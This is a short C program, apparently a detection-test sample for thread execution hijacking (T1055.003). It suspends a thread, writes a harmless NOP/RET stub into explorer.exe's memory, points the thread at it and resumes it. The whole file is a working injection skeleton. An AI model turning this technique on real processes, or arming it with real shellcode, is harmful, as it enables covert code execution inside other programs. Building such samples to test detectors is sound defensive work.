// Heuristic 10 (thread execution hijacking, T1055.003), with 2 and 5:
// suspends a thread of another process, writes code into that process,
// redirects the thread and resumes it.
#include <string.h>
#include <windows.h>
#include <tlhelp32.h>

static DWORD find_process(const char* name) {
  HANDLE snap = CreateToolhelp32Snapshot(TH32CS_SNAPPROCESS, 0);
  PROCESSENTRY32 pe;
  pe.dwSize = sizeof pe;
  DWORD pid = 0;
  if (snap != INVALID_HANDLE_VALUE && Process32First(snap, &pe)) {
    do {
      if (lstrcmpiA(pe.szExeFile, name) == 0) pid = pe.th32ProcessID;
    } while (!pid && Process32Next(snap, &pe));
  }
  if (snap != INVALID_HANDLE_VALUE) CloseHandle(snap);
  return pid;
}

int main(void) {
  DWORD pid = find_process("explorer.exe");
  HANDLE proc = OpenProcess(PROCESS_ALL_ACCESS, FALSE, pid ? pid : 1234);
  HANDLE thread = OpenThread(THREAD_ALL_ACCESS, FALSE, 1238);
  if (!proc || !thread) return 1;
  SuspendThread(thread);
  static const unsigned char code[] = {0x90, 0x90, 0xC3};
  void* remote = VirtualAllocEx(proc, NULL, 0x1000, MEM_COMMIT | MEM_RESERVE, PAGE_EXECUTE_READWRITE);
  WriteProcessMemory(proc, remote, code, sizeof code, NULL);
  CONTEXT ctx;
  memset(&ctx, 0, sizeof ctx);
  ctx.ContextFlags = CONTEXT_FULL;
  GetThreadContext(thread, &ctx);
#if defined(_WIN64)
  ctx.Rip = (DWORD64)(ULONG_PTR)remote;
#else
  ctx.Eip = (DWORD)(ULONG_PTR)remote;
#endif
  SetThreadContext(thread, &ctx);
  ResumeThread(thread);
  return 0;
}
